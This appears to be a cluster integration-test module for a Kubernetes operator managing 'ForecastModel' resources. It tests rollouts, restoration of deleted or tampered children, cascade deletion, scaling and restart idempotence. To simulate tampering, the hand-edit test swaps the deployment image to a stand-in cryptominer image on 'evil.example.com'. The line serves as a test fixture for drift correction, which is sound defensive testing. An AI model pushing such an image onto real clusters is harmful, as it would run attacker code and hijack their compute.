"""A ForecastModel's life on the real control plane: a new model rolls out, hand edits and
deletions of children are undone, deletion takes every child along, and an operator
restart neither duplicates nor writes anything.
"""

from __future__ import annotations

import json
import re
import time

import pytest

from devenv.paths import REPO

pytestmark = pytest.mark.cluster

MINIMAL = REPO / "examples" / "minimal.yaml"
NAME = "store-demand"


@pytest.fixture
def ready_fm(kit, namespace) -> dict:
    assert kit.apply(MINIMAL, namespace).returncode == 0
    return kit.wait_ready(NAME, namespace)


def template_revision(deployment: dict) -> str:
    return deployment["spec"]["template"]["metadata"]["labels"]["forecastops.io/revision"]


def test_a_changed_model_rolls_out_a_new_revision(kit, namespace, ready_fm):
    old = ready_fm["status"]["currentRevision"]
    patch = {
        "spec": {
            "model": {
                "uri": "https://models.example.com/store-demand/v2/model.onnx",
                "version": "v2",
            }
        }
    }
    kit.kubectl("patch", "fm", NAME, "-n", namespace, "--type=merge", "-p", json.dumps(patch))

    def rolled_out():
        fm = kit.fm(NAME, namespace)
        status = fm["status"]
        ready = kit.condition(NAME, namespace, "Ready").get("status") == "True"
        current = status.get("observedGeneration") == fm["metadata"]["generation"] == 2
        return (
            ready
            and current
            and status["stableRevision"] == status["currentRevision"] != old
            and fm
        )

    fm = kit.wait_for(rolled_out, timeout=90, what="the new revision Ready")
    assert fm["status"]["version"] == "v2"
    deployment = kit.get("deployment", NAME, namespace)
    assert template_revision(deployment) == fm["status"]["currentRevision"]
    container = deployment["spec"]["template"]["spec"]["containers"][0]
    assert container["args"][1] == "https://models.example.com/store-demand/v2/model.onnx"
    pods = kit.list("pods", namespace, f"forecastops.io/revision={fm['status']['currentRevision']}")
    assert pods and all(p["status"]["phase"] == "Running" for p in pods)
    progressing = [e for e in kit.events(NAME, namespace) if e["reason"] == "Updated"]
    assert any("Deployment" in e["message"] for e in progressing)


@pytest.mark.parametrize("kind", ["service", "deployment", "poddisruptionbudget", "networkpolicy"])
def test_a_deleted_child_is_restored(kit, namespace, ready_fm, kind):
    before = kit.get(kind, NAME, namespace)["metadata"]["uid"]
    kit.kubectl("delete", kind, NAME, "-n", namespace, "--wait=true")

    def restored():
        child = kit.get(kind, NAME, namespace)
        return child and child["metadata"]["uid"] != before

    kit.wait_for(restored, timeout=30, what=f"the {kind} restored")
    kit.wait_ready(NAME, namespace)


def test_a_hand_edited_child_is_put_back(kit, namespace, ready_fm):
    image = kit.get("deployment", NAME, namespace)["spec"]["template"]["spec"]["containers"][0][
        "image"
    ]
    kit.kubectl(
        "set",
        "image",
        f"deployment/{NAME}",
        "server=evil.example.com/miner:latest",
        "-n",
        namespace,
    )
    service_patch = {"spec": {"ports": [{"name": "http", "port": 8000, "targetPort": 9999}]}}
    kit.kubectl("patch", "service", NAME, "-n", namespace, "-p", json.dumps(service_patch))

    def put_back():
        deployment = kit.get("deployment", NAME, namespace)
        service = kit.get("service", NAME, namespace)
        images = [c["image"] for c in deployment["spec"]["template"]["spec"]["containers"]]
        return images == [image] and service["spec"]["ports"][0]["targetPort"] == "http"

    kit.wait_for(put_back, timeout=30, what="the image and the port put back")


def test_deleting_the_forecastmodel_removes_every_child(kit, namespace):
    kit.apply(REPO / "examples" / "production.yaml", namespace)
    kit.wait_ready(NAME, namespace)
    assert len(kit.children(NAME, namespace)) == 9  # with the scraped <name>-metrics Service
    kit.kubectl("delete", "fm", NAME, "-n", namespace, "--wait=true", "--timeout=30s")
    kit.wait_for(lambda: kit.children(NAME, namespace) == {}, timeout=60, what="no children left")
    kit.wait_for(
        lambda: not kit.list("pods", namespace, f"app.kubernetes.io/instance={NAME}"),
        timeout=60,
        what="no pods left",
    )


def test_scaling_through_the_scale_subresource(kit, namespace, ready_fm):
    kit.kubectl("scale", "fm", NAME, "-n", namespace, "--replicas=2")

    def two_available():
        status = kit.fm(NAME, namespace)["status"]
        return (
            status.get("availableReplicas") == 2
            and kit.condition(NAME, namespace, "Ready")["status"] == "True"
        )

    kit.wait_for(two_available, timeout=60, what="two available replicas")
    assert kit.get("deployment", NAME, namespace)["spec"]["replicas"] == 2


def _writes_by_the_operator(obj: dict, subresource: str = "") -> list[tuple]:
    """The operator's managedFields entries: their time moves with every real write."""
    return [
        (m["operation"], m["time"], json.dumps(m["fieldsV1"], sort_keys=True))
        for m in obj["metadata"].get("managedFields", [])
        if m["manager"] == "forecastops" and m.get("subresource", "") == subresource
    ]


def test_an_operator_restart_makes_no_duplicate_and_no_write(kit, namespace, operator):
    kit.apply(REPO / "examples" / "production.yaml", namespace)

    def settled():  # the HPA has raised the Deployment to minReplicas: 3
        fm = kit.fm(NAME, namespace)
        ready = kit.condition_of(fm, "Ready").get("status") == "True"
        return ready and fm["status"]["availableReplicas"] == 3

    kit.wait_for(settled, timeout=90, what="three available replicas")
    time.sleep(2)  # the last pass's writes land
    children, fm = kit.children(NAME, namespace), kit.fm(NAME, namespace)
    replicasets = kit.list("replicasets", namespace, f"app.kubernetes.io/instance={NAME}")

    operator.stop()
    mark = operator.mark()
    operator.start()
    time.sleep(3 * 5)  # three resyncs at FORECASTOPS_RESYNC_SECONDS=5

    now_children, now_fm = kit.children(NAME, namespace), kit.fm(NAME, namespace)
    assert set(now_children) == set(children)
    now_replicasets = kit.list("replicasets", namespace, f"app.kubernetes.io/instance={NAME}")
    assert len(now_replicasets) == len(replicasets)
    for key, child in now_children.items():
        assert child["metadata"]["uid"] == children[key]["metadata"]["uid"], key
        assert _writes_by_the_operator(child) == _writes_by_the_operator(children[key]), key
    assert now_fm["metadata"]["annotations"] == fm["metadata"]["annotations"]
    assert now_fm["metadata"]["generation"] == fm["metadata"]["generation"]
    log = operator.since(mark)
    assert not re.findall(r"\] (Created|Updated|Deleted) (?!status)\S+", log)
    # The status is rewritten only if what it reports moved (kwok may mark pods unready).
    deployment = ("Deployment", NAME)
    moved = (
        now_children[deployment]["metadata"]["resourceVersion"]
        != children[deployment]["metadata"]["resourceVersion"]
    )
    if not moved:
        assert "Updated status" not in log
        assert _writes_by_the_operator(now_fm, "status") == _writes_by_the_operator(fm, "status")
